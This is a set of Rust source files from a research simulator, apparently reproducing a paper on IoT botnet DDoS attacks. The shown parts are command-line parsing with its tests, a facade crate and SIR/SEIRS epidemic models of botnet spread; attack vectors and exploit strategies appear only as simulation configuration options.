        std::fs::read_to_string(path).map_err(|e| format!("reading {path}: {e}"))
    };
    let opts = ddosim::serve::SubmitOptions {
        addr: cli.addr,
        scenario: cli.scenario_path.as_ref().map(read).transpose()?,
        config: cli.config_path.as_ref().map(read).transpose()?,
        shutdown: cli.shutdown,
        id: cli.id,
        record: cli.record_out.is_some(),
        metrics_interval_secs: cli.metrics_interval_secs,
        follow: cli.follow,
    };
    match ddosim::serve::submit(&opts)? {
        ddosim::serve::SubmitOutcome::ShutdownAcknowledged => {
            eprintln!("server acknowledged shutdown");
            Ok(())
        }
        ddosim::serve::SubmitOutcome::Completed {
            job,
            result,
            trace,
            events_streamed,
            metrics_samples,
        } => {
            if let Some(path) = &cli.record_out {
                let trace = trace.ok_or("server streamed no trace for a record job")?;
                std::fs::write(path, trace).map_err(|e| format!("writing {path}: {e}"))?;
                eprintln!("flight recorder written to {path}");
            }
            if cli.json {
                println!("{}", result.to_string_pretty());
            } else {
                let pick = |key: &str| {
                    result
                        .get(key)
                        .map(djson::Json::to_string_compact)
                        .unwrap_or_else(|| "?".to_owned())
                };
                println!(
                    "job {job}: devs={} recruited={} bots@command={} flood_rx={} pkts  \
                     events={events_streamed} samples={metrics_samples}",
                    pick("devs"),
                    pick("infected"),
                    pick("bots_at_command"),
                    pick("flood_packets_received"),
                );
            }
            Ok(())
        }
    }
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    match parse_args(&args) {
        Ok(Cli::Help) => {
            print!("{USAGE}");
            ExitCode::SUCCESS
        }
        Ok(Cli::TraceDiff { a, b }) => trace_diff(&a, &b),
        Ok(Cli::TraceSuffix { trace, checkpoint }) => trace_suffix(&trace, &checkpoint),
        Ok(Cli::Serve(opts)) => match run_serve(opts) {
            Ok(()) => ExitCode::SUCCESS,
            Err(msg) => {
                eprintln!("error: {msg}");
                ExitCode::FAILURE
            }
        },
        Ok(Cli::Submit(cli)) => match run_submit(*cli) {
            Ok(()) => ExitCode::SUCCESS,
            Err(msg) => {
                eprintln!("error: {msg}");
                ExitCode::FAILURE
            }
        },
        Ok(Cli::Run(opts)) => match run(*opts) {
            Ok(()) => ExitCode::SUCCESS,
            Err(msg) => {
                eprintln!("error: {msg}");
                ExitCode::FAILURE
            }
        },
        Err(msg) => {
            eprintln!("error: {msg}\n\n{USAGE}");
            ExitCode::FAILURE
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(args: &[&str]) -> Result<Cli, String> {
        let args: Vec<String> = args.iter().map(|s| s.to_string()).collect();
        parse_args(&args)
    }

    fn run_opts(args: &[&str]) -> RunOpts {
        match parse(args) {
            Ok(Cli::Run(opts)) => *opts,
            other => panic!(
                "expected a run command, got {}",
                match other {
                    Ok(Cli::Help) => "help".to_owned(),
                    Ok(Cli::TraceDiff { .. }) => "trace diff".to_owned(),
                    Ok(Cli::TraceSuffix { .. }) => "trace suffix".to_owned(),
                    Ok(Cli::Serve(_)) => "serve".to_owned(),
                    Ok(Cli::Submit(_)) => "submit".to_owned(),
                    Ok(Cli::Run(_)) => unreachable!(),
                    Err(e) => format!("error: {e}"),
                }
            ),
        }
    }

    /// Table of flag strings that must be rejected, with the fragment the
    /// error message must contain.
    #[test]
    fn invalid_flags_are_rejected_with_context() {
        let table: &[(&[&str], &str)] = &[
            (&["--churn", "sometimes"], "unknown churn mode"),
            (&["--churn"], "requires a value"),
            (&["--devs", "many"], "--devs"),
            (&["--recruitment", "worm:0.5"], "unknown recruitment spec"),
            (&["--recruitment", "scanner:high"], "--recruitment scanner"),
            (&["--access-rate", "500"], "LO-HI"),
            (&["--access-rate", "a-b"], "--access-rate"),
            (&["--vector", "teardrop"], "unknown vector"),
            (&["--capture-filter", "frob 1"], "--capture-filter"),
            (&["--capture"], "requires a value"),
            (&["--metrics-interval", "0"], "positive"),
            (&["--metrics-interval", "-3"], "positive"),
            (&["--metrics-interval", "soon"], "--metrics-interval"),
            (&["--faults"], "requires a value"),
            (&["--frobnicate"], "unknown option"),
            (&["trace", "diff", "only-one.json"], "trace diff"),
            (&["trace", "merge", "a.json", "b.json"], "trace diff"),
            (&["trace", "suffix", "only-one.json"], "trace suffix"),
            (&["--checkpoint-at", "-5"], "non-negative"),
            (&["--checkpoint-at", "soon"], "--checkpoint-at"),
            (&["--checkpoint-out", "cp.json"], "--checkpoint-at"),
            (&["--resume", "cp.json", "--devs", "10"], "--devs"),
            (&["--resume", "cp.json", "--seed", "1"], "--seed"),
            (&["--resume", "cp.json", "--topology", "wifi"], "--topology"),
            (&["--resume", "cp.json", "--metrics-interval", "1"], "--metrics-interval"),
            (&["--topology", "mesh"], "unknown topology"),
            (&["--fork-at", "30"], "--fork-at requires --suffixes"),
            (&["--fork-at", "-1", "--suffixes", "p.json"], "non-negative"),
            (&["--fork-at", "soon", "--suffixes", "p.json"], "--fork-at"),
            (&["--suffixes", "p.json", "--resume", "cp.json"], "--resume"),
            (&["--suffixes", "p.json", "--checkpoint-at", "10"], "--checkpoint-at"),
            (&["--suffixes", "p.json", "--capture", "c.json"], "--capture"),
            (&["--suffixes", "p.json", "--metrics-interval", "1"], "--metrics-interval"),
            (&["--suffixes", "p.json", "--metrics-out", "m.json"], "--metrics-out"),
            (&["--scenario", "p.json", "--devs", "10"], "--devs"),
            (&["--scenario", "p.json", "--seed", "1"], "--seed"),
            (&["--scenario", "p.json", "--faults", "f.json"], "--faults"),
            (&["--scenario", "p.json", "--resume", "cp.json"], "--resume"),
            (&["--scenario", "p.json", "--checkpoint-at", "10"], "--checkpoint-at"),
            (&["--scenario"], "requires a value"),
            (&["--sweep-seeds"], "requires a value"),
            (&["--sweep-seeds", "0"], "at least 1"),
            (&["--sweep-seeds", "lots"], "--sweep-seeds"),
            (&["--sweep-stream"], "--sweep-stream requires --sweep-seeds"),
            (&["--sweep-seeds", "4", "--resume", "cp.json"], "--resume"),
            (&["--sweep-seeds", "4", "--checkpoint-at", "10"], "--checkpoint-at"),
            (&["--sweep-seeds", "4", "--suffixes", "p.json"], "--suffixes"),
            (&["--sweep-seeds", "4", "--scenario", "p.json"], "--scenario"),
            (&["--sweep-seeds", "4", "--record", "t.json"], "--record"),
            (&["--sweep-seeds", "4", "--capture", "c.json"], "--capture"),
            (&["--sweep-seeds", "4", "--metrics-interval", "1"], "--metrics-interval"),
            (&["serve", "--listen"], "requires a value"),
            (&["serve", "--idle-timeout", "0"], "positive"),
            (&["serve", "--idle-timeout", "soon"], "--idle-timeout"),
            (&["serve", "--workers", "0"], "at least 1"),
            (&["serve", "--workers", "many"], "--workers"),
            (&["serve", "--frobnicate"], "unknown option"),
            (&["submit"], "usage: ddosim submit"),
            (&["submit", "--scenario", "p.json"], "usage: ddosim submit"),
            (&["submit", "127.0.0.1:1"], "exactly one of"),
            (
                &["submit", "127.0.0.1:1", "--scenario", "a.json", "--config", "b.json"],
                "exactly one of",
            ),
            (
                &["submit", "127.0.0.1:1", "--shutdown", "--scenario", "a.json"],
                "--shutdown",
            ),
            (
                &["submit", "127.0.0.1:1", "--shutdown", "--record", "t.json"],
                "--record",
            ),
            (&["submit", "127.0.0.1:1", "--shutdown", "--json"], "--json"),
            (
                &["submit", "127.0.0.1:1", "--scenario", "p.json", "--metrics-interval", "0"],
                "positive",
            ),
            (&["submit", "127.0.0.1:1", "--id"], "requires a value"),
            (&["submit", "127.0.0.1:1", "--frobnicate"], "unknown option"),
        ];
        for (args, fragment) in table {
            match parse(args) {
                Err(msg) => assert!(
                    msg.contains(fragment),
                    "args {args:?}: error {msg:?} does not mention {fragment:?}"
                ),
                Ok(_) => panic!("args {args:?} unexpectedly accepted"),
            }
        }
    }

    /// Table of valid flag strings, checked against the accumulated
    /// configuration.
    #[test]
    fn valid_flags_reach_the_config() {
        let opts = run_opts(&[
            "--devs", "12",
            "--churn", "dynamic",
            "--access-rate", "200-300",
            "--recruitment", "worm:0.5:2",
            "--seed", "7",
        ]);
        let config = opts.builder.config();
        assert_eq!(config.devs, 12);
        assert_eq!(config.churn, ChurnMode::Dynamic);
        assert_eq!(config.access_rate_kbps, 200..=300);
        assert_eq!(
            config.recruitment,
            Recruitment::SelfPropagating { default_credential_fraction: 0.5, seeds: 2 }
        );
        assert_eq!(config.seed, 7);
        assert!(!opts.json);
        assert!(!config.telemetry.any_enabled());
        assert_eq!(opts.faults_path, None);
    }

    #[test]
    fn faults_flag_stores_the_plan_path() {
        // The file is only read at run time, so parsing alone must accept
        // any path.
        let opts = run_opts(&["--faults", "plan.json"]);
        assert_eq!(opts.faults_path.as_deref(), Some("plan.json"));
        assert!(opts.builder.config().faults.is_empty(), "plan loads later");
    }

    #[test]
    fn telemetry_flags_build_the_config() {
        let opts = run_opts(&[
            "--record", "rec.json",
            "--capture", "cap.json",
            "--capture-filter", "udp port 80",
            "--metrics-interval", "2.5",
        ]);
        let t = &opts.telemetry;
        assert!(t.record && t.capture);
        assert_eq!(t.capture_filter.proto.as_deref(), Some("udp"));
        assert_eq!(t.capture_filter.port, Some(80));
        assert_eq!(t.metrics_interval, Some(Duration::from_secs_f64(2.5)));
        assert_eq!(opts.record_out.as_deref(), Some("rec.json"));
        assert_eq!(opts.capture_out.as_deref(), Some("cap.json"));
        assert_eq!(opts.metrics_out.as_deref(), Some("ddosim-metrics.json"));
    }

    #[test]
    fn metrics_out_overrides_the_default() {
        let opts = run_opts(&["--metrics-interval", "1", "--metrics-out", "m.json"]);
        assert_eq!(opts.metrics_out.as_deref(), Some("m.json"));
        // Without an interval there is nothing to write.
        assert_eq!(run_opts(&[]).metrics_out, None);
    }

    #[test]
    fn checkpoint_flags_parse() {
        let opts = run_opts(&["--checkpoint-at", "75.5"]);
        assert_eq!(opts.checkpoint_at, Some(Duration::from_secs_f64(75.5)));
        assert_eq!(opts.checkpoint_out.as_deref(), Some("ddosim-checkpoint.json"));
        let opts = run_opts(&["--checkpoint-at", "75", "--checkpoint-out", "cp.json"]);
        assert_eq!(opts.checkpoint_out.as_deref(), Some("cp.json"));
        assert!(run_opts(&[]).checkpoint_out.is_none());
    }

    #[test]
    fn resume_allows_output_paths() {
        // Output paths are not world-shaping: a resumed run may write its
        // trace anywhere, the telemetry *collection* config still comes
        // from the checkpoint.
        let opts = run_opts(&["--resume", "cp.json", "--record", "out.json", "--json"]);
        assert_eq!(opts.resume_path.as_deref(), Some("cp.json"));
        assert_eq!(opts.record_out.as_deref(), Some("out.json"));
        assert!(opts.json);
        // A resumed run may also re-checkpoint (at or after the resume
        // point; the run itself enforces the ordering).
        let opts = run_opts(&["--resume", "cp.json", "--checkpoint-at", "80"]);
        assert_eq!(opts.checkpoint_at, Some(Duration::from_secs(80)));
    }

    #[test]
    fn suffix_flags_parse() {
        let opts = run_opts(&["--suffixes", "plan.json", "--fork-at", "12.5", "--record", "t.json"]);
        assert_eq!(opts.suffixes_path.as_deref(), Some("plan.json"));
        assert_eq!(opts.fork_at, Some(Duration::from_secs_f64(12.5)));
        assert_eq!(opts.record_out.as_deref(), Some("t.json"));
        assert_eq!(opts.world_flag, None);
        // World flags parse fine — a plan *without* an embedded config
        // uses them; run time rejects them otherwise.
        let opts = run_opts(&["--devs", "6", "--suffixes", "plan.json"]);
        assert_eq!(opts.world_flag.as_deref(), Some("--devs"));
    }

    #[test]
    fn scenario_flag_parses_and_composes_with_outputs() {
        // The plan file is only read at run time; parsing stores the path
        // and keeps output flags and --suffixes composable.
        let opts = run_opts(&["--scenario", "p.json", "--record", "t.json", "--json"]);
        assert_eq!(opts.scenario_path.as_deref(), Some("p.json"));
        assert_eq!(opts.record_out.as_deref(), Some("t.json"));
        assert!(opts.json);
        let opts = run_opts(&["--scenario", "p.json", "--suffixes", "s.json"]);
        assert_eq!(opts.scenario_path.as_deref(), Some("p.json"));
        assert_eq!(opts.suffixes_path.as_deref(), Some("s.json"));
    }

    #[test]
    fn sweep_flags_parse_and_compose_with_world_flags() {
        // World flags shape the base config that every sweep row clones;
        // only output/state flags conflict.
        let opts = run_opts(&["--devs", "8", "--sweep-seeds", "5", "--sweep-stream", "--json"]);
        assert_eq!(opts.sweep_seeds, Some(5));
        assert!(opts.sweep_stream);
        assert!(opts.json);
        assert_eq!(opts.builder.config().devs, 8);
        let defaults = run_opts(&[]);
        assert_eq!(defaults.sweep_seeds, None);
        assert!(!defaults.sweep_stream);
    }

    #[test]
    fn suffix_record_paths_embed_the_name() {
        assert_eq!(suffix_record_path("out.json", "baseline"), "out.baseline.json");
        assert_eq!(suffix_record_path("trace", "b1"), "trace.b1");
        assert_eq!(suffix_record_path("a.dir/trace", "b1"), "a.dir/trace.b1");
    }

    #[test]
    fn wifi_topology_parses() {
        let opts = run_opts(&["--topology", "wifi"]);
        assert_eq!(opts.builder.config().topology, ddosim::TopologyKind::Wifi);
    }

    #[test]
    fn trace_suffix_subcommand_parses() {
        match parse(&["trace", "suffix", "t.json", "cp.json"]) {
            Ok(Cli::TraceSuffix { trace, checkpoint }) => {
                assert_eq!(trace, "t.json");
                assert_eq!(checkpoint, "cp.json");
            }
            _ => panic!("trace suffix did not parse"),
        }
    }

    #[test]
    fn suffix_doc_filters_events_below_the_checkpoint_count() {
        let cp = ddosim::Checkpoint {
            at: Duration::from_secs(10),
            config: ddosim::SimulationConfig::default(),
            digests: Vec::new(),
            events_recorded: 2,
        };
        let trace = r#"{"schema":"s","capacity":4,"total_recorded":4,
            "events":[{"seq":0},{"seq":1},{"seq":2},{"seq":3}]}"#;
        let doc = suffix_doc(trace, &cp.to_string_pretty()).expect("valid inputs");
        let events = doc.get("events").and_then(djson::Json::as_array).unwrap();
        let seqs: Vec<u64> = events.iter().filter_map(|e| e.get("seq")?.as_u64()).collect();
        assert_eq!(seqs, [2, 3]);
        assert_eq!(doc.get("total_recorded").and_then(djson::Json::as_u64), Some(4));
    }

    #[test]
    fn trace_diff_subcommand_parses() {
        match parse(&["trace", "diff", "a.json", "b.json"]) {
            Ok(Cli::TraceDiff { a, b }) => {
                assert_eq!(a, "a.json");
                assert_eq!(b, "b.json");
            }
            _ => panic!("trace diff did not parse"),
        }
    }

    #[test]
    fn serve_subcommand_parses() {
        let opts = match parse(&["serve"]) {
            Ok(Cli::Serve(opts)) => opts,
            _ => panic!("bare serve did not parse"),
        };
        assert_eq!(opts.listen, "127.0.0.1:0");
        assert_eq!(opts.idle_timeout, None);
        assert_eq!(opts.workers, None);
        let opts = match parse(&[
            "serve", "--listen", "127.0.0.1:47001", "--idle-timeout", "2.5", "--workers", "3",
        ]) {
            Ok(Cli::Serve(opts)) => opts,
            _ => panic!("serve flags did not parse"),
        };
        assert_eq!(opts.listen, "127.0.0.1:47001");
        assert_eq!(opts.idle_timeout, Some(Duration::from_secs_f64(2.5)));
        assert_eq!(opts.workers, Some(3));
    }

    #[test]
    fn submit_subcommand_parses() {
        let cli = match parse(&[
            "submit", "127.0.0.1:47001", "--scenario", "plan.json", "--record", "t.json",
            "--metrics-interval", "5", "--id", "a1", "--follow", "--json",
        ]) {
            Ok(Cli::Submit(cli)) => cli,
            _ => panic!("submit did not parse"),
        };
        assert_eq!(cli.addr, "127.0.0.1:47001");
        assert_eq!(cli.scenario_path.as_deref(), Some("plan.json"));
        assert_eq!(cli.config_path, None);
        assert!(!cli.shutdown);
        assert_eq!(cli.id.as_deref(), Some("a1"));
        assert_eq!(cli.record_out.as_deref(), Some("t.json"));
        assert_eq!(cli.metrics_interval_secs, Some(5.0));
        assert!(cli.follow && cli.json);
        let cli = match parse(&["submit", "127.0.0.1:47001", "--shutdown"]) {
            Ok(Cli::Submit(cli)) => cli,
            _ => panic!("submit --shutdown did not parse"),
        };
        assert!(cli.shutdown);
        let cli = match parse(&["submit", "127.0.0.1:47001", "--config", "c.json"]) {
            Ok(Cli::Submit(cli)) => cli,
            _ => panic!("submit --config did not parse"),
        };
        assert_eq!(cli.config_path.as_deref(), Some("c.json"));
    }

    #[test]
    fn help_short_circuits() {
        assert!(matches!(parse(&["-h"]), Ok(Cli::Help)));
        assert!(matches!(parse(&["--devs", "3", "--help"]), Ok(Cli::Help)));
    }
}
