//! `ddosim` — command-line front-end for single simulation runs.
//!
//! ```sh
//! ddosim --devs 100 --churn dynamic --duration 100 --seed 42
//! ddosim --devs 50 --recruitment worm:1.0:1 --json
//! ```

use churn::ChurnMode;
use ddosim::{AttackSpec, Recruitment, SimulationBuilder};
use protocols::AttackVector;
use std::process::ExitCode;
use std::time::Duration;

const USAGE: &str = "\
ddosim — memory-error IoT botnet DDoS simulation (DSN'23 reproduction)

USAGE:
    ddosim [OPTIONS]

OPTIONS:
    --devs <N>                number of Devs (default 25)
    --churn <MODE>            none | static | dynamic (default none)
    --vector <V>              udpplain | udp | syn | ack | greip (default udpplain)
    --duration <SECS>         attack duration (default 100)
    --attack-at <SECS>        when the C&C issues the attack (default 60)
    --sim-time <SECS>         simulation horizon (default 600)
    --payload <BYTES>         flood payload size (default: vector default)
    --access-rate <LO-HI>     Dev uplink range in kbps (default 100-500)
    --recruitment <R>         memory-error (default)
                              | scanner:<cred-fraction>
                              | worm:<cred-fraction>:<seeds>
    --topology <T>            star (default) | tiered:<regions>:<uplink-bps>
    --reboot-rate <R>         per-device reboots per minute (default 0)
    --strategy <S>            leak-rebase | static-chain | code-injection
    --seed <N>                RNG seed (default 42)
    --json                    emit the full RunResult as JSON
    -h, --help                show this help
";

fn parse_args(args: &[String]) -> Result<(SimulationBuilder, bool), String> {
    let mut builder = SimulationBuilder::new().devs(25);
    let mut duration = Duration::from_secs(100);
    let mut vector = AttackVector::UdpPlain;
    let mut payload: Option<u32> = None;
    let mut json = false;
    let mut it = args.iter();
    while let Some(arg) = it.next() {
        let mut value = |name: &str| -> Result<String, String> {
            it.next()
                .cloned()
                .ok_or_else(|| format!("{name} requires a value"))
        };
        match arg.as_str() {
            "--devs" => builder = builder.devs(value("--devs")?.parse().map_err(|e| format!("--devs: {e}"))?),
            "--churn" => {
                builder = builder.churn(match value("--churn")?.as_str() {
                    "none" => ChurnMode::None,
                    "static" => ChurnMode::Static,
                    "dynamic" => ChurnMode::Dynamic,
                    other => return Err(format!("unknown churn mode: {other}")),
                })
            }
            "--vector" => {
                let v = value("--vector")?;
                vector = AttackVector::parse(&v).ok_or(format!("unknown vector: {v}"))?;
            }
            "--duration" => {
                duration = Duration::from_secs(
                    value("--duration")?.parse().map_err(|e| format!("--duration: {e}"))?,
                )
            }
            "--attack-at" => {
                builder = builder.attack_at(Duration::from_secs(
                    value("--attack-at")?.parse().map_err(|e| format!("--attack-at: {e}"))?,
                ))
            }
            "--sim-time" => {
                builder = builder.sim_time(Duration::from_secs(
                    value("--sim-time")?.parse().map_err(|e| format!("--sim-time: {e}"))?,
                ))
            }
            "--payload" => {
                payload = Some(value("--payload")?.parse().map_err(|e| format!("--payload: {e}"))?)
            }
            "--access-rate" => {
                let v = value("--access-rate")?;
                let (lo, hi) = v
                    .split_once('-')
                    .ok_or_else(|| "expected LO-HI, e.g. 100-500".to_owned())?;
                let lo: u64 = lo.parse().map_err(|e| format!("--access-rate: {e}"))?;
                let hi: u64 = hi.parse().map_err(|e| format!("--access-rate: {e}"))?;
                builder = builder.access_rate_kbps(lo..=hi);
            }
            "--recruitment" => {
                let v = value("--recruitment")?;
                let parts: Vec<&str> = v.split(':').collect();
                let r = match parts.as_slice() {
                    ["memory-error"] => Recruitment::MemoryError,
                    ["scanner", f] => Recruitment::CredentialScanner {
                        default_credential_fraction: f
                            .parse()
                            .map_err(|e| format!("--recruitment scanner: {e}"))?,
                    },
                    ["worm", f, s] => Recruitment::SelfPropagating {
                        default_credential_fraction: f
                            .parse()
                            .map_err(|e| format!("--recruitment worm: {e}"))?,
                        seeds: s.parse().map_err(|e| format!("--recruitment worm: {e}"))?,
                    },
                    _ => return Err(format!("unknown recruitment spec: {v}")),
                };
                builder = builder.recruitment(r);
            }
            "--strategy" => {
                builder = builder.strategy(match value("--strategy")?.as_str() {
                    "leak-rebase" => ddosim::ExploitStrategy::LeakRebase,
                    "static-chain" => ddosim::ExploitStrategy::StaticChain,
                    "code-injection" => ddosim::ExploitStrategy::CodeInjection,
                    other => return Err(format!("unknown strategy: {other}")),
                })
            }
            "--topology" => {
                let v = value("--topology")?;
                let parts: Vec<&str> = v.split(':').collect();
                let t = match parts.as_slice() {
                    ["star"] => ddosim::TopologyKind::Star,
                    ["tiered", r, bps] => ddosim::TopologyKind::Tiered {
                        regions: r.parse().map_err(|e| format!("--topology: {e}"))?,
                        region_uplink_bps: bps.parse().map_err(|e| format!("--topology: {e}"))?,
                    },
                    _ => return Err(format!("unknown topology spec: {v}")),
                };
                builder = builder.topology(t);
            }
            "--reboot-rate" => {
                builder = builder.reboot_rate_per_min(
                    value("--reboot-rate")?.parse().map_err(|e| format!("--reboot-rate: {e}"))?,
                )
            }
            "--seed" => builder = builder.seed(value("--seed")?.parse().map_err(|e| format!("--seed: {e}"))?),
            "--json" => json = true,
            "-h" | "--help" => return Err(String::new()),
            other => return Err(format!("unknown option: {other}")),
        }
    }
    builder = builder.attack(AttackSpec {
        vector,
        duration,
        payload_bytes: payload,
        port: 80,
    });
    Ok((builder, json))
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let (builder, json) = match parse_args(&args) {
        Ok(v) => v,
        Err(msg) => {
            if msg.is_empty() {
                print!("{USAGE}");
                return ExitCode::SUCCESS;
            }
            eprintln!("error: {msg}\n\n{USAGE}");
            return ExitCode::FAILURE;
        }
    };
    let result = match builder.run() {
        Ok(r) => r,
        Err(msg) => {
            eprintln!("invalid configuration: {msg}");
            return ExitCode::FAILURE;
        }
    };
    if json {
        println!("{}", djson::ToJson::to_json(&result).to_string_pretty());
    } else {
        println!(
            "devs={} recruited={} ({:.0}%)  bots@command={}  avg={:.1} kbps  \
             flood_rx={} pkts  pre/attack mem={:.2}/{:.2} GB  attack wall={}",
            result.devs,
            result.infected,
            result.infection_rate * 100.0,
            result.bots_at_command,
            result.avg_received_data_rate_kbps,
            result.flood_packets_received,
            result.pre_attack_mem_gb,
            result.attack_mem_gb,
            result.attack_time_m_ss(),
        );
    }
    ExitCode::SUCCESS
}
