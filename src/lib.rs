//! # ddosim — facade crate
//!
//! Re-exports the whole DDoSim reproduction under one roof. See the
//! README for the architecture and `ddosim_core` for the main entry point
//! ([`SimulationBuilder`]).

#![warn(missing_docs)]

pub use ddosim_core::*;

pub use analysis;
pub use attacker;
pub use churn;
pub use faults;
pub use firmware;
pub use malware;
pub use netsim;
pub use protocols;
pub use scenario;
pub use serve;
pub use telemetry;
pub use testbed;
pub use tinyvm;
