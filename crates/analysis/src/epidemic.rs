//! Epidemic models of botnet spread (§V-A2).
//!
//! "Many studies ... use epidemic modeling techniques, such as the
//! Susceptible-Infected-Recovered model ... typically a system of ordinary
//! differential equations." This module provides SI and SIR integrators
//! (RK4) and a fitting routine, so DDoSim's *measured* infection curve can
//! be compared against the mathematical prediction — the paper's second
//! use case. A SEIRS integrator covers the richer IoT-botnet models the
//! paper cites.
//!
//! # Examples
//!
//! ```
//! use analysis::epidemic::{fit_si_beta, observed_curve};
//!
//! // Per-device infection timestamps measured by a DDoSim run:
//! let times = [2.0, 3.0, 3.5, 4.0, 4.2, 5.0, 6.0, 8.0];
//! let curve = observed_curve(&times, 1.0, 10.0);
//! let (beta, rmse) = fit_si_beta(&curve, 8.0, 1.0, 1.0);
//! assert!(beta > 0.0 && rmse < 8.0);
//! ```

/// State of an SIR system.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SirState {
    /// Susceptible hosts.
    pub s: f64,
    /// Infected hosts.
    pub i: f64,
    /// Recovered (patched/cleaned) hosts.
    pub r: f64,
}

impl SirState {
    /// Total population.
    pub fn n(&self) -> f64 {
        self.s + self.i + self.r
    }
}

/// SIR parameters; set `gamma = 0` for the pure SI model.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SirParams {
    /// Contact/infection rate β.
    pub beta: f64,
    /// Recovery rate γ.
    pub gamma: f64,
}

fn derivatives(state: SirState, p: SirParams) -> SirState {
    let n = state.n().max(1e-12);
    let new_infections = p.beta * state.s * state.i / n;
    let recoveries = p.gamma * state.i;
    SirState {
        s: -new_infections,
        i: new_infections - recoveries,
        r: recoveries,
    }
}

fn add(a: SirState, b: SirState, k: f64) -> SirState {
    SirState {
        s: a.s + b.s * k,
        i: a.i + b.i * k,
        r: a.r + b.r * k,
    }
}

/// One RK4 step of size `dt`.
pub fn rk4_step(state: SirState, p: SirParams, dt: f64) -> SirState {
    let k1 = derivatives(state, p);
    let k2 = derivatives(add(state, k1, dt / 2.0), p);
    let k3 = derivatives(add(state, k2, dt / 2.0), p);
    let k4 = derivatives(add(state, k3, dt), p);
    SirState {
        s: state.s + dt / 6.0 * (k1.s + 2.0 * k2.s + 2.0 * k3.s + k4.s),
        i: state.i + dt / 6.0 * (k1.i + 2.0 * k2.i + 2.0 * k3.i + k4.i),
        r: state.r + dt / 6.0 * (k1.r + 2.0 * k2.r + 2.0 * k3.r + k4.r),
    }
}

/// Integrates the infected-count curve `I(t)` at `dt` steps for `steps`
/// steps, starting from `initial`.
pub fn infected_curve(initial: SirState, p: SirParams, dt: f64, steps: usize) -> Vec<f64> {
    let mut out = Vec::with_capacity(steps + 1);
    let mut state = initial;
    out.push(state.i);
    for _ in 0..steps {
        state = rk4_step(state, p, dt);
        out.push(state.i);
    }
    out
}

/// Converts per-device infection timestamps (seconds) into a cumulative
/// infected-count curve sampled every `dt` seconds over `[0, horizon]`.
pub fn observed_curve(infection_times_secs: &[f64], dt: f64, horizon: f64) -> Vec<f64> {
    let mut times = infection_times_secs.to_vec();
    times.sort_by(f64::total_cmp);
    let steps = (horizon / dt).ceil() as usize;
    (0..=steps)
        .map(|k| {
            let t = k as f64 * dt;
            times.iter().filter(|x| **x <= t).count() as f64
        })
        .collect()
}

/// Root-mean-square error between two equal-length curves.
///
/// # Panics
///
/// Panics if the lengths differ or the curves are empty.
pub fn rmse(a: &[f64], b: &[f64]) -> f64 {
    assert_eq!(a.len(), b.len(), "curve lengths differ");
    assert!(!a.is_empty(), "curves are empty");
    let mse = a
        .iter()
        .zip(b)
        .map(|(x, y)| (x - y).powi(2))
        .sum::<f64>()
        / a.len() as f64;
    mse.sqrt()
}

/// Fits β of a pure SI model (γ=0) to an observed cumulative infection
/// curve by golden-section-style grid refinement; returns `(beta, rmse)`.
///
/// # Panics
///
/// Panics if `observed` is empty or the population is not positive.
pub fn fit_si_beta(observed: &[f64], population: f64, i0: f64, dt: f64) -> (f64, f64) {
    assert!(!observed.is_empty(), "observed curve is empty");
    assert!(population > 0.0, "population must be positive");
    let steps = observed.len() - 1;
    let eval = |beta: f64| -> f64 {
        let curve = infected_curve(
            SirState {
                s: population - i0,
                i: i0,
                r: 0.0,
            },
            SirParams { beta, gamma: 0.0 },
            dt,
            steps,
        );
        rmse(&curve, observed)
    };
    let mut lo = 1e-4;
    let mut hi = 10.0;
    let mut best = (lo, eval(lo));
    for _ in 0..4 {
        let mut grid_best = best;
        let n = 40;
        for k in 0..=n {
            let beta = lo + (hi - lo) * k as f64 / n as f64;
            let err = eval(beta);
            if err < grid_best.1 {
                grid_best = (beta, err);
            }
        }
        best = grid_best;
        let span = (hi - lo) / n as f64 * 4.0;
        lo = (best.0 - span).max(1e-6);
        hi = best.0 + span;
    }
    best
}

/// State of a SEIRS system (the model Gardner et al. use for IoT botnets,
/// cited by the paper as \[55\]): Susceptible → Exposed (compromised but not
/// yet attacking) → Infected → Recovered (patched/rebooted) → Susceptible
/// again (reinfection after reboot, Mirai's hallmark).
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SeirsState {
    /// Susceptible hosts.
    pub s: f64,
    /// Exposed hosts (compromised, bot not yet active).
    pub e: f64,
    /// Infected hosts (active bots).
    pub i: f64,
    /// Recovered hosts (cleaned, temporarily immune).
    pub r: f64,
}

impl SeirsState {
    /// Total population.
    pub fn n(&self) -> f64 {
        self.s + self.e + self.i + self.r
    }
}

/// SEIRS parameters.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SeirsParams {
    /// Contact/compromise rate β.
    pub beta: f64,
    /// Incubation rate σ (E→I; 1/σ is the mean time from compromise to an
    /// active bot — the download + registration latency DDoSim simulates
    /// explicitly).
    pub sigma: f64,
    /// Recovery rate γ (I→R; cleaning/reboots).
    pub gamma: f64,
    /// Immunity-loss rate ξ (R→S; devices reboot back into the vulnerable
    /// state because Mirai does not persist).
    pub xi: f64,
}

fn seirs_derivatives(state: SeirsState, p: SeirsParams) -> SeirsState {
    let n = state.n().max(1e-12);
    let exposures = p.beta * state.s * state.i / n;
    let activations = p.sigma * state.e;
    let recoveries = p.gamma * state.i;
    let relapses = p.xi * state.r;
    SeirsState {
        s: -exposures + relapses,
        e: exposures - activations,
        i: activations - recoveries,
        r: recoveries - relapses,
    }
}

fn seirs_add(a: SeirsState, b: SeirsState, k: f64) -> SeirsState {
    SeirsState {
        s: a.s + b.s * k,
        e: a.e + b.e * k,
        i: a.i + b.i * k,
        r: a.r + b.r * k,
    }
}

/// One RK4 step of the SEIRS system.
pub fn seirs_rk4_step(state: SeirsState, p: SeirsParams, dt: f64) -> SeirsState {
    let k1 = seirs_derivatives(state, p);
    let k2 = seirs_derivatives(seirs_add(state, k1, dt / 2.0), p);
    let k3 = seirs_derivatives(seirs_add(state, k2, dt / 2.0), p);
    let k4 = seirs_derivatives(seirs_add(state, k3, dt), p);
    SeirsState {
        s: state.s + dt / 6.0 * (k1.s + 2.0 * k2.s + 2.0 * k3.s + k4.s),
        e: state.e + dt / 6.0 * (k1.e + 2.0 * k2.e + 2.0 * k3.e + k4.e),
        i: state.i + dt / 6.0 * (k1.i + 2.0 * k2.i + 2.0 * k3.i + k4.i),
